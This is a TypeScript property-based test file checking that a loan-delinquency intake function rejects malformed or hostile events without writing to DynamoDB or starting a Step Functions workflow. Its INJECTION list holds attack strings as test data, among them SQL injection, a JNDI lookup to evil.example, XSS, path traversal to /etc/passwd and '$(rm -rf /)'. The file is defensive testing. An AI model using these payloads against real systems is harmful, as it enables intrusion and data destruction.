import { SFNClient, StartExecutionCommand } from '@aws-sdk/client-sfn';
import { PutCommand, QueryCommand } from '@aws-sdk/lib-dynamodb';
import { mockClient } from 'aws-sdk-client-mock';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { SfnStarter } from '../../functions/adapters/workflow.js';
import { BorrowerSchema, LoanDelinquentSchema } from '../../functions/domain/events.js';
import { bundledPolicies } from '../../functions/domain/policies.js';
import { createIntakeCore } from '../../functions/intake/core.js';
import { db, fixedClock, loanDelinquent, stores } from './fixtures.js';

/**
 * Bad LoanDelinquent events, generated: malformed, wrong types, oversized, unicode, injection strings,
 * missing fields, and values that pass the schema but not the business rules. Every one is rejected
 * with a ValidationError of one short line that echoes no contact detail, before any DynamoDB or
 * Step Functions call: nothing is started or partly written.
 */
const ddb = mockClient(db);
const sfn = mockClient(SFNClient);
afterEach(() => {
  ddb.reset();
  sfn.reset();
});

const intake = () =>
  createIntakeCore({
    cases: stores.cases,
    contacts: stores.contacts,
    starter: new SfnStarter(new SFNClient({ region: 'us-east-1' }), {
      default: 'arn:aws:states:us-east-1:1:stateMachine:x',
    }),
    clock: fixedClock('2026-12-06T00:00:00Z'),
    policies: bundledPolicies(),
  });

const INJECTION = [
  "'; DROP TABLE Cases; --",
  '" OR 1=1 --',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '$(rm -rf /)',
  '`id`',
  'attribute_not_exists(pk) OR pk = :pk',
  '#s = :open',
  '\u0000\u0007\u001b[2J',
  'line one\nline two\r\nthree',
  '\u202Eevil\u202C',
  '💸💸💸',
  'ＬＮ－００１',
  '𝕃𝕠𝕒𝕟',
];

/** Any value of a wrong or hostile shape: other types, injection strings, unicode, huge strings. */
const hostile = fc.oneof(
  fc.constantFrom(...INJECTION),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ minLength: 300, maxLength: 5000 }),
  fc.constant('x'.repeat(100_000)),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue(), { maxKeys: 3 }),
);

const FIELDS = [
  'loanId',
  'cycle',
  'amountDue',
  'currency',
  'dueDate',
  'policyId',
  'borrower',
  'borrower.borrowerId',
  'borrower.name',
  'borrower.phone',
  'borrower.email',
  'borrower.timeZone',
  'borrower.locale',
  'borrower.preferredChannel',
] as const;

function withField(path: string, value: unknown, remove = false): Record<string, unknown> {
  const event = structuredClone(loanDelinquent) as unknown as Record<string, Record<string, unknown>>;
  const [head, leaf] = path.split('.') as [string, string | undefined];
  const target = leaf ? (event[head] as Record<string, unknown>) : (event as Record<string, unknown>);
  const key = leaf ?? head;
  if (remove) delete target[key];
  else target[key] = value;
  return event;
}

/** A mutation that makes the event invalid: a field set to a hostile value the schema refuses, or removed. */
const invalidEvent = fc
  .oneof(
    fc.record({ path: fc.constantFrom(...FIELDS), value: hostile, remove: fc.constant(false) }),
    fc.record({
      path: fc.constantFrom(
        ...FIELDS.filter((f) => !['cycle', 'policyId', 'borrower.preferredChannel'].includes(f)),
      ),
      value: fc.constant(undefined),
      remove: fc.constant(true),
    }),
  )
  .map(({ path, value, remove }) => ({ path, event: withField(path, value, remove) }))
  .filter(({ event }) => !LoanDelinquentSchema().safeParse(event).success);

/** Passes the schema, fails a business rule: too far ahead, too precise for the currency, no such policy. */
const validButRefused = fc.oneof(
  fc.integer({ min: 21, max: 3000 }).map((days) => {
    const due = new Date(Date.parse('2026-12-06T00:00:00Z') + days * 86_400_000).toISOString().slice(0, 10);
    return { ...loanDelinquent, dueDate: due };
  }),
  fc
    .constantFrom('1.5', '10.25', '999.999')
    .map((amountDue) => ({ ...loanDelinquent, amountDue, currency: 'JPY' })),
  fc.constantFrom('1.001', '0.005').map((amountDue) => ({ ...loanDelinquent, amountDue })),
  fc
    .stringMatching(/^[a-z0-9-]{1,40}$/)
    .filter((id) => id !== 'default')
    .map((policyId) => ({ ...loanDelinquent, policyId })),
);

const CONTACT = [loanDelinquent.borrower.phone, loanDelinquent.borrower.email, loanDelinquent.borrower.name];

async function expectRejectedCleanly(detail: unknown, hostileValue?: unknown): Promise<void> {
  ddb.reset();
  sfn.reset();
  const error = await intake()(detail).then(
    () => undefined,
    (e: Error) => e,
  );
  expect(error?.name).toBe('ValidationError');
  const message = error?.message ?? '';
  expect(message).not.toMatch(/[\r\n]/);
  expect(message.length).toBeLessThanOrEqual(200);
  for (const value of CONTACT) expect(message).not.toContain(value);
  if (typeof hostileValue === 'string' && hostileValue.length >= 12)
    expect(message).not.toContain(hostileValue);
  expect(ddb.calls()).toHaveLength(0);
  expect(sfn.calls()).toHaveLength(0);
}

describe('intake: bad LoanDelinquent events (property-based)', () => {
  it('anything that is not an event object is refused, nothing written or started', async () => {
    await fc.assert(
      fc.asyncProperty(fc.oneof(fc.jsonValue(), fc.anything()), (detail) => expectRejectedCleanly(detail)),
      { numRuns: 150 },
    );
  });

  it('one field wrong, hostile or missing: refused naming the field, nothing written or started', async () => {
    await fc.assert(
      fc.asyncProperty(invalidEvent, async ({ path, event }) => {
        const value = path.split('.').reduce<unknown>((o, k) => (o as Record<string, unknown>)?.[k], event);
        await expectRejectedCleanly(event, value);
        const error = await intake()(event).catch((e: Error) => e);
        // The first problem is named by its path (the field itself or, for a whole borrower, inside it).
        expect((error as Error).message).toMatch(new RegExp(`^LoanDelinquent: ${path.split('.')[0]}`));
      }),
      { numRuns: 300 },
    );
  });

  it('contact details in any script are accepted as data, never as code (names are free text)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.constantFrom(...INJECTION.filter((s) => s.trim().length > 0)),
          fc.string({ unit: 'grapheme', minLength: 1, maxLength: 200 }),
        ),
        async (name) => {
          fc.pre(BorrowerSchema().shape.name.safeParse(name).success);
          ddb.reset();
          sfn.reset();
          ddb.on(PutCommand).resolves({});
          ddb.on(QueryCommand).resolves({ Items: [] });
          sfn.on(StartExecutionCommand).resolves({ executionArn: 'arn' });
          const event = { ...loanDelinquent, borrower: { ...loanDelinquent.borrower, name } };
          await intake()(event);
          // The name goes to the contacts table only, as an attribute value; never into the case or the input.
          const contact = ddb.commandCalls(PutCommand).find((c) => c.args[0].input.TableName === 'Contacts');
          expect(contact?.args[0].input.Item?.name).toBe(name);
          // Compared as values, not as substrings of JSON: a name such as "," is inside any JSON text.
          const others = ddb.commandCalls(PutCommand).filter((c) => c.args[0].input.TableName !== 'Contacts');
          for (const c of others) expect(stringValues(c.args[0].input)).not.toContain(name);
          const input = JSON.parse(sfn.commandCalls(StartExecutionCommand)[0]?.args[0].input.input ?? '{}');
          expect(stringValues(input)).not.toContain(name);
        },
      ),
      { numRuns: 100 },
    );
  });

  it('valid by the schema but refused by a rule (too far ahead, too precise, unknown policy): nothing written', async () => {
    await fc.assert(
      fc.asyncProperty(validButRefused, (event) => expectRejectedCleanly(event)),
      { numRuns: 100 },
    );
  });
});

/** Every string in a value, at any depth (keys included). */
function stringValues(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(stringValues);
  if (value && typeof value === 'object') {
    return Object.entries(value).flatMap(([k, v]) => [k, ...stringValues(v)]);
  }
  return [];
}
